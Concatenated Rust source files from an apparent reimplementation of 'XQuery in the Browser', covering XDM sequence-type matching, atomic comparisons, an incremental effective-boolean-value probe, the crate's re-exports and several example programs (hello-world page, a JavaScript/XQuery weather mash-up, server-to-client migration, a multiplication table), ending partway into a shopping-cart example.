    /// Subtype check within the simplified atomic hierarchy:
    /// integer ⊂ decimal; everything ⊂ anyAtomicType.
    pub fn is_subtype_of(&self, other: TypeName) -> bool {
        if other == TypeName::AnyAtomic {
            return true;
        }
        if *self == other {
            return true;
        }
        matches!((self, other), (TypeName::Integer, TypeName::Decimal))
    }
}

impl fmt::Display for TypeName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "xs:{}", self.local_name())
    }
}

/// An item type as written in a sequence type.
#[derive(Debug, Clone, PartialEq)]
pub enum ItemType {
    /// `item()`
    AnyItem,
    /// `node()`
    AnyNode,
    /// `element()` / `element(name)`
    Element(Option<QName>),
    /// `attribute()` / `attribute(name)`
    Attribute(Option<QName>),
    /// `text()`
    Text,
    /// `comment()`
    Comment,
    /// `processing-instruction()` / with target
    Pi(Option<String>),
    /// `document-node()`
    Document,
    /// an atomic type, e.g. `xs:string`
    Atomic(TypeName),
}

/// Occurrence indicator of a sequence type.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Occurrence {
    /// exactly one
    One,
    /// `?`
    Optional,
    /// `*`
    ZeroOrMore,
    /// `+`
    OneOrMore,
}

/// A sequence type, e.g. `element(book)*` or `xs:string?`.
#[derive(Debug, Clone, PartialEq)]
pub struct SequenceType {
    pub item: ItemType,
    pub occurrence: Occurrence,
    /// `empty-sequence()` is encoded separately.
    pub empty_sequence: bool,
}

impl SequenceType {
    pub fn one(item: ItemType) -> Self {
        SequenceType {
            item,
            occurrence: Occurrence::One,
            empty_sequence: false,
        }
    }
    pub fn zero_or_more(item: ItemType) -> Self {
        SequenceType {
            item,
            occurrence: Occurrence::ZeroOrMore,
            empty_sequence: false,
        }
    }
    pub fn optional(item: ItemType) -> Self {
        SequenceType {
            item,
            occurrence: Occurrence::Optional,
            empty_sequence: false,
        }
    }
    pub fn empty() -> Self {
        SequenceType {
            item: ItemType::AnyItem,
            occurrence: Occurrence::ZeroOrMore,
            empty_sequence: true,
        }
    }

    /// `instance of` check for a whole sequence.
    pub fn matches(&self, store: &Store, seq: &[Item]) -> bool {
        if self.empty_sequence {
            return seq.is_empty();
        }
        let count_ok = match self.occurrence {
            Occurrence::One => seq.len() == 1,
            Occurrence::Optional => seq.len() <= 1,
            Occurrence::ZeroOrMore => true,
            Occurrence::OneOrMore => !seq.is_empty(),
        };
        count_ok && seq.iter().all(|i| item_matches(store, &self.item, i))
    }
}

impl fmt::Display for SequenceType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.empty_sequence {
            return f.write_str("empty-sequence()");
        }
        let item = match &self.item {
            ItemType::AnyItem => "item()".to_string(),
            ItemType::AnyNode => "node()".to_string(),
            ItemType::Element(None) => "element()".to_string(),
            ItemType::Element(Some(q)) => format!("element({q})"),
            ItemType::Attribute(None) => "attribute()".to_string(),
            ItemType::Attribute(Some(q)) => format!("attribute({q})"),
            ItemType::Text => "text()".to_string(),
            ItemType::Comment => "comment()".to_string(),
            ItemType::Pi(None) => "processing-instruction()".to_string(),
            ItemType::Pi(Some(t)) => format!("processing-instruction({t})"),
            ItemType::Document => "document-node()".to_string(),
            ItemType::Atomic(t) => t.to_string(),
        };
        let occ = match self.occurrence {
            Occurrence::One => "",
            Occurrence::Optional => "?",
            Occurrence::ZeroOrMore => "*",
            Occurrence::OneOrMore => "+",
        };
        write!(f, "{item}{occ}")
    }
}

/// Does a single item match an item type?
pub fn item_matches(store: &Store, ty: &ItemType, item: &Item) -> bool {
    match (ty, item) {
        (ItemType::AnyItem, _) => true,
        (ItemType::AnyNode, Item::Node(_)) => true,
        (ItemType::Atomic(t), Item::Atomic(a)) => a.type_name().is_subtype_of(*t),
        (ItemType::Element(name), Item::Node(n)) => match store.doc(n.doc).kind(n.node) {
            NodeKind::Element { name: actual, .. } => match name {
                Some(q) => actual == q,
                None => true,
            },
            _ => false,
        },
        (ItemType::Attribute(name), Item::Node(n)) => match store.doc(n.doc).kind(n.node) {
            NodeKind::Attribute { name: actual, .. } => match name {
                Some(q) => actual == q,
                None => true,
            },
            _ => false,
        },
        (ItemType::Text, Item::Node(n)) => store.doc(n.doc).kind(n.node).is_text(),
        (ItemType::Comment, Item::Node(n)) => {
            matches!(store.doc(n.doc).kind(n.node), NodeKind::Comment { .. })
        }
        (ItemType::Pi(target), Item::Node(n)) => match store.doc(n.doc).kind(n.node) {
            NodeKind::ProcessingInstruction { target: actual, .. } => match target {
                Some(t) => actual == t,
                None => true,
            },
            _ => false,
        },
        (ItemType::Document, Item::Node(n)) => store.doc(n.doc).kind(n.node).is_document(),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::atomic::Atomic;
    use xqib_dom::NodeRef;

    fn store_with_element() -> (Store, NodeRef, NodeRef, NodeRef) {
        let mut s = Store::new();
        let d = s.new_document(None);
        let doc = s.doc_mut(d);
        let e = doc.create_element(QName::local("book"));
        doc.append_child(doc.root(), e).unwrap();
        let a = doc.set_attribute(e, QName::local("id"), "1").unwrap();
        let t = doc.create_text("hi");
        doc.append_child(e, t).unwrap();
        (
            s,
            NodeRef::new(d, e),
            NodeRef::new(d, a),
            NodeRef::new(d, t),
        )
    }

    #[test]
    fn atomic_subtyping() {
        assert!(TypeName::Integer.is_subtype_of(TypeName::Decimal));
        assert!(TypeName::Integer.is_subtype_of(TypeName::AnyAtomic));
        assert!(!TypeName::Decimal.is_subtype_of(TypeName::Integer));
        assert!(!TypeName::String.is_subtype_of(TypeName::Double));
    }

    #[test]
    fn from_local_aliases() {
        assert_eq!(TypeName::from_local("int"), Some(TypeName::Integer));
        assert_eq!(TypeName::from_local("float"), Some(TypeName::Double));
        assert_eq!(TypeName::from_local("nosuch"), None);
    }

    #[test]
    fn element_matching() {
        let (s, e, a, t) = store_with_element();
        let any_el = ItemType::Element(None);
        let named = ItemType::Element(Some(QName::local("book")));
        let wrong = ItemType::Element(Some(QName::local("journal")));
        assert!(item_matches(&s, &any_el, &Item::Node(e)));
        assert!(item_matches(&s, &named, &Item::Node(e)));
        assert!(!item_matches(&s, &wrong, &Item::Node(e)));
        assert!(!item_matches(&s, &any_el, &Item::Node(a)));
        assert!(item_matches(&s, &ItemType::Attribute(None), &Item::Node(a)));
        assert!(item_matches(&s, &ItemType::Text, &Item::Node(t)));
        assert!(item_matches(&s, &ItemType::AnyNode, &Item::Node(t)));
    }

    #[test]
    fn occurrence_checks() {
        let (s, e, _, _) = store_with_element();
        let one = SequenceType::one(ItemType::Element(None));
        let star = SequenceType::zero_or_more(ItemType::Element(None));
        let plus = SequenceType {
            item: ItemType::Element(None),
            occurrence: Occurrence::OneOrMore,
            empty_sequence: false,
        };
        let empty: Vec<Item> = vec![];
        let single = vec![Item::Node(e)];
        let double = vec![Item::Node(e), Item::Node(e)];
        assert!(!one.matches(&s, &empty));
        assert!(one.matches(&s, &single));
        assert!(!one.matches(&s, &double));
        assert!(star.matches(&s, &empty));
        assert!(star.matches(&s, &double));
        assert!(!plus.matches(&s, &empty));
        assert!(plus.matches(&s, &double));
        assert!(SequenceType::empty().matches(&s, &empty));
        assert!(!SequenceType::empty().matches(&s, &single));
    }

    #[test]
    fn atomic_matching_in_sequence() {
        let s = Store::new();
        let st = SequenceType::one(ItemType::Atomic(TypeName::Decimal));
        assert!(st.matches(&s, &[Item::Atomic(Atomic::Integer(3))]));
        assert!(!st.matches(&s, &[Item::Atomic(Atomic::str("x"))]));
    }

    #[test]
    fn display_forms() {
        assert_eq!(
            SequenceType::zero_or_more(ItemType::Element(Some(QName::local("p")))).to_string(),
            "element(p)*"
        );
        assert_eq!(
            SequenceType::optional(ItemType::Atomic(TypeName::String)).to_string(),
            "xs:string?"
        );
        assert_eq!(SequenceType::empty().to_string(), "empty-sequence()");
    }
}
