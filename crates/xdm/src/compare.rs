//! Value and general comparisons (XPath 2.0 §3.5) with the untyped-data
//! promotion rules the paper's examples rely on (e.g. comparing web-page
//! text against numbers and strings).

use std::cmp::Ordering;

use crate::atomic::Atomic;
use crate::error::{XdmError, XdmResult};

/// The six comparison operators, shared by value (`eq`) and general (`=`)
/// comparison.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CompOp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

impl CompOp {
    pub fn evaluate(self, ord: Ordering) -> bool {
        match self {
            CompOp::Eq => ord == Ordering::Equal,
            CompOp::Ne => ord != Ordering::Equal,
            CompOp::Lt => ord == Ordering::Less,
            CompOp::Le => ord != Ordering::Greater,
            CompOp::Gt => ord == Ordering::Greater,
            CompOp::Ge => ord != Ordering::Less,
        }
    }
}

/// Orders two atomics after type promotion; errors when incomparable.
///
/// Promotion rules: untyped vs numeric → double; untyped vs untyped/string →
/// string; numeric vs numeric → double arithmetic comparison; strings by
/// codepoint; booleans; dates/times/dateTimes by timeline; durations when
/// same-flavoured.
pub fn compare_atomics(a: &Atomic, b: &Atomic) -> XdmResult<Ordering> {
    use Atomic::*;
    match (a, b) {
        // numeric (including untyped promoted to double)
        _ if a.is_numeric() && b.is_numeric() => cmp_f64(a.as_double()?, b.as_double()?),
        (Untyped(_), _) if b.is_numeric() => cmp_f64(a.as_double()?, b.as_double()?),
        (_, Untyped(_)) if a.is_numeric() => cmp_f64(a.as_double()?, b.as_double()?),
        (Boolean(x), Boolean(y)) => Ok(x.cmp(y)),
        (Untyped(_) | String(_) | AnyUri(_), Untyped(_) | String(_) | AnyUri(_)) => {
            Ok(a.string_value().cmp(&b.string_value()))
        }
        (Date(x), Date(y)) => Ok(x.cmp(y)),
        (Time(x), Time(y)) => Ok(x.cmp(y)),
        (DateTime(x), DateTime(y)) => Ok(x.cmp(y)),
        (Duration(x), Duration(y)) => x
            .try_cmp(y)
            .ok_or_else(|| XdmError::type_error("cannot compare mixed-flavour durations")),
        (QName(x), QName(y)) => {
            // QNames support eq/ne only; we map equality onto Ordering and
            // reject ordering via compare_atomics_op below.
            if x == y {
                Ok(Ordering::Equal)
            } else {
                Ok(Ordering::Less)
            }
        }
        (Untyped(_), Date(_) | Time(_) | DateTime(_) | Duration(_) | Boolean(_)) => {
            let cast = a.cast_to(b.type_name())?;
            compare_atomics(&cast, b)
        }
        (Date(_) | Time(_) | DateTime(_) | Duration(_) | Boolean(_), Untyped(_)) => {
            let cast = b.cast_to(a.type_name())?;
            compare_atomics(a, &cast)
        }
        _ => Err(XdmError::type_error(format!(
            "cannot compare {} with {}",
            a.type_name(),
            b.type_name()
        ))),
    }
}

fn cmp_f64(a: f64, b: f64) -> XdmResult<Ordering> {
    a.partial_cmp(&b).ok_or_else(|| {
        // NaN comparisons: all value comparisons with NaN are false, which
        // we signal with a dedicated code the caller maps to `false`.
        XdmError::new("XQIBNAN", "NaN comparison")
    })
}

/// Value comparison (`eq`, `lt`, …) of two atomics.
pub fn value_compare(op: CompOp, a: &Atomic, b: &Atomic) -> XdmResult<bool> {
    // QName only supports eq/ne
    if matches!(a, Atomic::QName(_)) || matches!(b, Atomic::QName(_)) {
        match (a, b, op) {
            (Atomic::QName(x), Atomic::QName(y), CompOp::Eq) => return Ok(x == y),
            (Atomic::QName(x), Atomic::QName(y), CompOp::Ne) => return Ok(x != y),
            _ => return Err(XdmError::type_error("QNames support only eq/ne comparison")),
        }
    }
    match compare_atomics(a, b) {
        Ok(ord) => Ok(op.evaluate(ord)),
        Err(e) if e.code == "XQIBNAN" => Ok(op == CompOp::Ne),
        Err(e) => Err(e),
    }
}

/// General comparison (`=`, `<`, …): existential over two atomized
/// sequences. In a general comparison, untyped values are cast to the type
/// of the other operand (double for numerics, string otherwise).
pub fn general_compare(op: CompOp, left: &[Atomic], right: &[Atomic]) -> XdmResult<bool> {
    for a in left {
        for b in right {
            let (pa, pb) = promote_for_general(a, b)?;
            if value_compare(op, &pa, &pb)? {
                return Ok(true);
            }
        }
    }
    Ok(false)
}

fn promote_for_general(a: &Atomic, b: &Atomic) -> XdmResult<(Atomic, Atomic)> {
    use Atomic::*;
    match (a, b) {
        (Untyped(_), _) if b.is_numeric() => Ok((Double(a.as_double()?), b.clone())),
        (_, Untyped(_)) if a.is_numeric() => Ok((a.clone(), Double(b.as_double()?))),
        (Untyped(s), Untyped(t)) => Ok((Atomic::str(&**s), Atomic::str(&**t))),
        (Untyped(_), _) => Ok((a.cast_to(b.type_name())?, b.clone())),
        (_, Untyped(_)) => Ok((a.clone(), b.cast_to(a.type_name())?)),
        _ => Ok((a.clone(), b.clone())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::datetime::Date;

    #[test]
    fn numeric_value_comparison() {
        assert!(value_compare(CompOp::Lt, &Atomic::Integer(1), &Atomic::Double(1.5)).unwrap());
        assert!(value_compare(CompOp::Eq, &Atomic::Integer(2), &Atomic::Decimal(2.0)).unwrap());
        assert!(value_compare(CompOp::Ge, &Atomic::Double(2.0), &Atomic::Integer(2)).unwrap());
    }

    #[test]
    fn nan_comparisons_are_false_except_ne() {
        let nan = Atomic::Double(f64::NAN);
        let one = Atomic::Integer(1);
        assert!(!value_compare(CompOp::Eq, &nan, &one).unwrap());
        assert!(!value_compare(CompOp::Lt, &nan, &one).unwrap());
        assert!(!value_compare(CompOp::Eq, &nan, &nan).unwrap());
        assert!(value_compare(CompOp::Ne, &nan, &one).unwrap());
    }

    #[test]
    fn string_comparison() {
        assert!(value_compare(CompOp::Lt, &Atomic::str("abc"), &Atomic::str("abd")).unwrap());
        assert!(value_compare(CompOp::Eq, &Atomic::str("x"), &Atomic::untyped("x")).unwrap());
    }

    #[test]
    fn untyped_promotes_to_double_against_numbers() {
        assert!(
            value_compare(CompOp::Eq, &Atomic::untyped("1500"), &Atomic::Integer(1500)).unwrap()
        );
        assert!(value_compare(CompOp::Gt, &Atomic::untyped("10"), &Atomic::Integer(9)).unwrap());
        // string comparison would say "10" < "9"; numeric promotion wins:
        assert!(!value_compare(CompOp::Lt, &Atomic::untyped("10"), &Atomic::Integer(9)).unwrap());
    }

    #[test]
    fn incompatible_types_error() {
        let err = value_compare(CompOp::Eq, &Atomic::str("x"), &Atomic::Integer(1)).unwrap_err();
        assert_eq!(err.code, "XPTY0004");
    }

    #[test]
    fn date_comparison_and_untyped_cast() {
        let d1 = Atomic::Date(Date::parse("2009-01-01").unwrap());
        let d2 = Atomic::Date(Date::parse("2009-06-01").unwrap());
        assert!(value_compare(CompOp::Lt, &d1, &d2).unwrap());
        assert!(value_compare(CompOp::Eq, &Atomic::untyped("2009-01-01"), &d1).unwrap());
    }

    #[test]
    fn general_comparison_is_existential() {
        let left = vec![Atomic::Integer(1), Atomic::Integer(5)];
        let right = vec![Atomic::Integer(5), Atomic::Integer(6)];
        assert!(general_compare(CompOp::Eq, &left, &right).unwrap());
        assert!(!general_compare(CompOp::Gt, &[Atomic::Integer(1)], &right).unwrap());
        assert!(general_compare(CompOp::Lt, &[Atomic::Integer(1)], &right).unwrap());
        assert!(
            !general_compare(CompOp::Eq, &[], &right).unwrap(),
            "empty never matches"
        );
    }

    #[test]
    fn general_comparison_untyped_rules() {
        // untyped vs numeric -> numeric
        assert!(
            general_compare(CompOp::Eq, &[Atomic::untyped("07")], &[Atomic::Integer(7)]).unwrap()
        );
        // untyped vs untyped -> string
        assert!(!general_compare(
            CompOp::Eq,
            &[Atomic::untyped("07")],
            &[Atomic::untyped("7")]
        )
        .unwrap());
    }

    #[test]
    fn qname_only_eq_ne() {
        use xqib_dom::QName;
        let q1 = Atomic::QName(QName::local("a"));
        let q2 = Atomic::QName(QName::local("b"));
        assert!(value_compare(CompOp::Ne, &q1, &q2).unwrap());
        assert!(value_compare(CompOp::Eq, &q1, &q1.clone()).unwrap());
        assert!(value_compare(CompOp::Lt, &q1, &q2).is_err());
    }
}
