//! Incremental (pull-friendly) views over sequences.
//!
//! The streaming evaluator in `xqib-xquery` pulls items one at a time; the
//! helpers here let it decide sequence-level properties — today the
//! effective boolean value — without materialising the sequence, while
//! agreeing item-for-item with the eager functions in [`crate::ebv`].

use crate::ebv::effective_boolean_value;
use crate::error::XdmResult;
use crate::item::Item;

/// Incremental effective-boolean-value computation.
///
/// Feed pulled items with [`EbvProbe::push`]; it returns `Some(verdict)` as
/// soon as the EBV is decided (a leading node decides `true` after one pull,
/// a second atomic item decides the `FORG0006` error after two), so a lazy
/// producer can stop pulling early. Call [`EbvProbe::finish`] when the
/// stream ends undecided. The verdicts match
/// [`effective_boolean_value`] exactly.
#[derive(Default)]
pub struct EbvProbe {
    first: Option<Item>,
}

impl EbvProbe {
    pub fn new() -> Self {
        Self::default()
    }

    /// Feeds the next pulled item. `Ok(Some(v))` means the EBV is decided
    /// and no further items need to be pulled; `Ok(None)` means undecided.
    pub fn push(&mut self, item: Item) -> XdmResult<Option<bool>> {
        match &self.first {
            None => match item {
                Item::Node(_) => Ok(Some(true)),
                atomic => {
                    self.first = Some(atomic);
                    Ok(None)
                }
            },
            // a second item with an atomic first: the eager path raises
            // FORG0006 regardless of what follows
            Some(first) => effective_boolean_value(&[first.clone(), item]).map(Some),
        }
    }

    /// The stream is exhausted: resolve the EBV of what was seen.
    pub fn finish(self) -> XdmResult<bool> {
        match self.first {
            None => Ok(false),
            Some(item) => effective_boolean_value(&[item]),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::atomic::Atomic;
    use crate::datetime::Date;
    use xqib_dom::{DocId, NodeId, NodeRef};

    fn node_item() -> Item {
        Item::Node(NodeRef::new(DocId(0), NodeId(0)))
    }

    /// The probe must agree with the eager function on every prefix-decision.
    fn probe(seq: &[Item]) -> XdmResult<bool> {
        let mut p = EbvProbe::new();
        for item in seq {
            if let Some(v) = p.push(item.clone())? {
                return Ok(v);
            }
        }
        p.finish()
    }

    #[test]
    fn agrees_with_eager_ebv() {
        let date = Item::Atomic(Atomic::Date(Date::parse("2009-04-20").unwrap()));
        let cases: Vec<Vec<Item>> = vec![
            vec![],
            vec![node_item()],
            vec![node_item(), Item::integer(0)],
            vec![Item::boolean(false)],
            vec![Item::string("")],
            vec![Item::string("x")],
            vec![Item::integer(0)],
            vec![Item::double(f64::NAN)],
            vec![Item::integer(1), Item::integer(2)],
            vec![Item::integer(1), node_item()],
            vec![date.clone()],
            vec![date, Item::integer(1)],
        ];
        for seq in cases {
            let eager = effective_boolean_value(&seq);
            let lazy = probe(&seq);
            match (eager, lazy) {
                (Ok(a), Ok(b)) => assert_eq!(a, b, "{seq:?}"),
                (Err(a), Err(b)) => assert_eq!(a.code, b.code, "{seq:?}"),
                other => panic!("probe diverged on {seq:?}: {other:?}"),
            }
        }
    }

    #[test]
    fn leading_node_decides_after_one_pull() {
        let mut p = EbvProbe::new();
        assert_eq!(p.push(node_item()).unwrap(), Some(true));
    }
}
