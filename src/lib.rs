//! # xqib — XQuery in the Browser, in Rust
//!
//! Umbrella crate for the reproduction of *"XQuery in the Browser"*
//! (Fourny, Pilman, Florescu, Kossmann, Kraska, McBeath — WWW 2009).
//!
//! Re-exports the complete public API:
//!
//! * [`dom`] — arena DOM, XML/XHTML parser, serialisation;
//! * [`xdm`] — the XQuery 1.0 / XPath 2.0 data model;
//! * [`xquery`] — the XQuery engine (parser, evaluator, F&O library,
//!   Update Facility, Scripting Extension, Full-Text, browser grammar
//!   extensions);
//! * [`browser`] — the browser substrate (BOM, DOM events, CSS, security,
//!   virtual network, event loop);
//! * [`core`] — the XQIB plug-in itself (page lifecycle, `browser:`
//!   function bindings, event/async bridges);
//! * [`minijs`] — the JavaScript-subset baseline interpreter;
//! * [`appserver`] — the server tier (XML DB, REST, server-side rendering,
//!   server-to-client migration);
//! * [`storage`] — crash-consistent persistence (fault-injected virtual
//!   disk, write-ahead log, checkpoints).
//!
//! See `examples/quickstart.rs` for the "Hello, World!" page of §4.1.

pub use xqib_appserver as appserver;
pub use xqib_browser as browser;
pub use xqib_core as core;
pub use xqib_dom as dom;
pub use xqib_minijs as minijs;
pub use xqib_storage as storage;
pub use xqib_xdm as xdm;
pub use xqib_xquery as xquery;
