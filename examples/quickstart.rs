//! Quickstart: the paper's §4.1 "Hello, World!" page, plus a tour of the
//! plug-in — loading a page, running XQuery against the live DOM,
//! registering an event listener with the `on event … attach listener`
//! syntax, and clicking.
//!
//! Run with: `cargo run --example quickstart`

use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::core::samples;

fn main() {
    // 1. The Hello World page (§4.1): XQuery in a <script/> tag runs when
    //    the page loads.
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin.load_page(samples::HELLO_WORLD).expect("page loads");
    println!("alerts after load: {:?}", plugin.alerts());

    // 2. A page with a button and an XQuery listener.
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin
        .load_page(
            r#"<html><head><script type="text/xquery"><![CDATA[
            declare updating function local:greet($evt, $obj) {
                insert node <p>You clicked with button {data($evt/button)}!</p>
                into //body[1]
            };
            on event "onclick" at //input[@id="hello"] attach listener local:greet
            ]]></script></head>
            <body><input id="hello" type="button" value="Say hello"/></body></html>"#,
        )
        .expect("page loads");

    // 3. The browser fires a click; the plug-in dispatches it to the
    //    listener; the pending updates apply to the live DOM (Figure 1).
    let button = plugin.element_by_id("hello").expect("button exists");
    plugin.click(button).expect("listener runs");
    plugin.click(button).expect("listener runs again");

    println!("\npage after two clicks:\n{}", plugin.serialize_page());

    // 4. Ad-hoc XQuery against the live page: the context item is the
    //    document (§4.2.3), so paths just work.
    let out = plugin.eval("count(//p)").expect("query runs");
    println!("\ncount(//p) = {}", plugin.render(&out));

    let out = plugin
        .eval("string(browser:navigator()/appName)")
        .expect("navigator accessible");
    println!("navigator appName = {}", plugin.render(&out));
}
