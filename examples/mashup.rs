//! §6.2 / Figure 3 — the Google-Maps/Weather mash-up: JavaScript and
//! XQuery co-existing in one page, handling the *same* click event on the
//! *same* DOM; the XQuery side integrates three weather services and a
//! webcam index over REST.
//!
//! Run with: `cargo run --example mashup`

use std::cell::RefCell;
use std::rc::Rc;

use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::dom::QName;
use xqib::minijs::JsEngine;

const PAGE: &str = r#"<html><head>
<script type="text/javascript">
function onSearch(e) {
    var box = document.getElementById("searchbox");
    var query = box.getAttribute("value");
    var map = document.createElement("div");
    map.setAttribute("id", "map");
    var text = document.createTextNode("[map of " + query + "]");
    map.appendChild(text);
    document.getElementById("mappanel").appendChild(map);
}
document.getElementById("searchbutton").addEventListener("onclick", onSearch, false);
</script>
<script type="text/xqueryp"><![CDATA[
declare variable $services := ("http://weather-a.example", "http://weather-b.example");
declare updating function local:onSearch($evt, $obj) {
  let $loc := string(//input[@id="searchbox"]/@value)
  return {
    delete node //div[@id="weatherpanel"]/*;
    for $s in $services
    return
      insert node <div class="forecast">{
        data(browser:httpGet(concat($s, "/api?q=", $loc))//summary)
      }</div>
      into //div[@id="weatherpanel"];
  }
};
on event "onclick" at //input[@id="searchbutton"] attach listener local:onSearch
]]></script>
</head><body>
<input id="searchbox" type="text" value=""/>
<input id="searchbutton" type="button" value="Search"/>
<div id="mappanel"/>
<div id="weatherpanel"/>
</body></html>"#;

fn main() {
    let mut plugin = Plugin::new(PluginConfig::default());

    // register the weather services on the virtual network
    {
        let mut host = plugin.host.borrow_mut();
        for (name, kind) in [("weather-a", "sunny"), ("weather-b", "rainy")] {
            let kind = kind.to_string();
            host.net
                .register(&format!("http://{name}.example"), 20, move |req| {
                    let loc = req.query_param("q").unwrap_or_default();
                    Response::ok(format!(
                        "<weather><summary>{kind} in {loc}</summary></weather>"
                    ))
                });
        }
    }

    // load the page: the XQuery script runs; JS comes back for the co-host
    let js_sources = plugin.load_page(PAGE).expect("page loads");

    // run the JavaScript with the shared DOM (JavaScript first, §4.1)
    let engine = Rc::new(RefCell::new(JsEngine::new(
        plugin.store.clone(),
        plugin.page_doc(),
    )));
    engine.borrow_mut().run(&js_sources[0]).expect("JS runs");

    // wire the JS listener registrations onto the shared event system
    for (target, event_type, f) in engine.borrow_mut().take_registrations() {
        let engine = engine.clone();
        plugin.register_external_listener(target, &event_type, move |ev| {
            engine
                .borrow_mut()
                .dispatch_to(&f, &ev.event_type, ev.target, ev.button)
                .expect("JS listener runs");
        });
    }

    // the user types "Madrid" and clicks Search — ONE event, BOTH languages
    let searchbox = plugin.element_by_id("searchbox").expect("searchbox");
    plugin
        .store
        .borrow_mut()
        .doc_mut(searchbox.doc)
        .set_attribute(searchbox.node, QName::local("value"), "Madrid")
        .expect("value set");
    let button = plugin.element_by_id("searchbutton").expect("button");
    plugin.click(button).expect("both listeners run");

    println!("page after the search:\n{}", plugin.serialize_page());
    println!(
        "\nnetwork: {} requests to {} hosts, {} bytes received",
        plugin.host.borrow().net.stats.requests,
        plugin.host.borrow().net.stats.per_host.len(),
        plugin.host.borrow().net.stats.bytes_received,
    );
}
