//! §6.1 / Figure 2 — Elsevier Reference 2.0: server-to-client migration.
//!
//! Runs the same browse session against both deployments and prints the
//! server-side cost of each — the off-loading the migration was for.
//!
//! Run with: `cargo run --example elsevier`

use std::cell::RefCell;
use std::rc::Rc;

use xqib::appserver::corpus::{article_ids, generate_corpus, CorpusSpec};
use xqib::appserver::{migrate, AppServer};
use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};

fn main() {
    let spec = CorpusSpec::default();
    let xml = generate_corpus(&spec);
    let ids = article_ids(&spec);
    let session: Vec<&str> = ids.iter().take(12).map(|s| s.as_str()).collect();

    // ----- deployment A: server-rendered ------------------------------------
    let mut server = AppServer::new(&xml).expect("server builds");
    server.handle("/index");
    for id in &session {
        let r = server.handle(&format!("/page?article={id}"));
        assert_eq!(r.status, 200);
    }
    println!(
        "=== server-rendered deployment ({} interactions) ===",
        session.len() + 1
    );
    println!("server requests:      {}", server.metrics.requests);
    println!("server XQuery evals:  {}", server.metrics.xquery_evals);
    println!("bytes over the wire:  {}", server.metrics.bytes_out);

    // ----- deployment B: migrated to the client ------------------------------
    let server = Rc::new(RefCell::new(AppServer::new(&xml).expect("server builds")));
    let mut plugin = Plugin::new(PluginConfig {
        url: format!("{}/app", migrate::SERVER_BASE),
        ..Default::default()
    });
    {
        let server = server.clone();
        plugin
            .host
            .borrow_mut()
            .net
            .register(migrate::SERVER_BASE, 40, move |req| {
                let r = server.borrow_mut().handle(&req.url);
                Response {
                    status: r.status,
                    body: r.body,
                    content_type: "application/xml".into(),
                }
            });
    }
    plugin
        .load_page(&migrate::migrated_page())
        .expect("page loads");
    plugin.eval("local:showIndex()").expect("index renders");
    for id in &session {
        plugin
            .eval(&migrate::interaction(id))
            .expect("article renders");
    }
    println!("\n=== migrated deployment (same session) ===");
    println!("server requests:      {}", server.borrow().metrics.requests);
    println!(
        "server XQuery evals:  {}",
        server.borrow().metrics.xquery_evals
    );
    println!(
        "bytes over the wire:  {}",
        server.borrow().metrics.bytes_out
    );
    println!(
        "client cache:         {} documents",
        plugin.store.borrow().doc_count()
    );

    println!("\nlast article rendered client-side:");
    let page = plugin.serialize_page();
    let start = page.find("<div id=\"content\">").unwrap_or(0);
    println!(
        "{}",
        &page[start..start.saturating_add(400).min(page.len())]
    );
}
