//! §6.3 — the multiplication-table demo from xqib.org: "requires 77 lines
//! of JavaScript code or alternatively only 29 lines of XQuery code".
//!
//! Runs both implementations against the same blank page, verifies they
//! produce the same table, and prints the LoC comparison.
//!
//! Run with: `cargo run --example multiplication_table`

use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::core::samples;
use xqib::minijs::JsEngine;

fn main() {
    // ----- the XQuery version (runs in the plug-in) ---------------------------
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin
        .load_page(samples::MULTIPLICATION_TABLE_XQUERY)
        .expect("page loads");
    let xq_page = plugin.serialize_page();
    let xq_cell = extract_cell(&xq_page, "c7-8");

    // a click highlights the cell through the `set style` extension
    let cell = plugin.element_by_id("c7-8").expect("cell exists");
    plugin.click(cell).expect("highlight runs");
    let highlight = plugin
        .host
        .borrow()
        .css
        .get(cell, "background-color")
        .map(|s| s.to_string());

    // ----- the JavaScript version (runs in minijs) ----------------------------
    let store = xqib::dom::store::shared_store();
    let doc = xqib::dom::parse_document("<html><body></body></html>").unwrap();
    let id = store.borrow_mut().add_document(doc, None);
    let mut js = JsEngine::new(store.clone(), id);
    js.run(samples::MULTIPLICATION_TABLE_JS).expect("JS runs");
    let js_page = {
        let s = store.borrow();
        xqib::dom::serialize::serialize_document(s.doc(id))
    };
    let js_cell = extract_cell(&js_page, "c7-8");

    println!("XQuery-rendered cell c7-8: {xq_cell}");
    println!("JS-rendered cell c7-8:     {js_cell}");
    assert_eq!(xq_cell, js_cell, "both versions compute the same table");
    println!("clicked cell background:   {highlight:?}");

    println!("\n--- the paper's §6.3 comparison ---");
    let js_loc = samples::count_loc(samples::MULTIPLICATION_TABLE_JS);
    let xq_loc = samples::count_loc(samples::MULTIPLICATION_TABLE_XQUERY);
    println!("JavaScript: {js_loc} lines");
    println!("XQuery:     {xq_loc} lines");
    println!("factor:     {:.1}x", js_loc as f64 / xq_loc as f64);
}

fn extract_cell(page: &str, id: &str) -> String {
    let marker = format!("<td id=\"{id}\">");
    let start = page.find(&marker).expect("cell rendered");
    let end = page[start..].find("</td>").expect("cell closed") + start;
    page[start..end + 5].to_string()
}
