//! §6.3 — the shopping cart, both ways:
//!
//! 1. the **technology jungle**: server-rendered markup (the JSP stand-in),
//!    client-side JavaScript with embedded XPath;
//! 2. **XQuery only**: one language for markup, data access, listener
//!    registration and DOM updates.
//!
//! Both end in the same DOM state; the XQuery version is a fraction of the
//! code. Run with: `cargo run --example shopping_cart`

use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::core::samples;
use xqib::minijs::JsEngine;

const PRODUCTS: &str = "<products>\
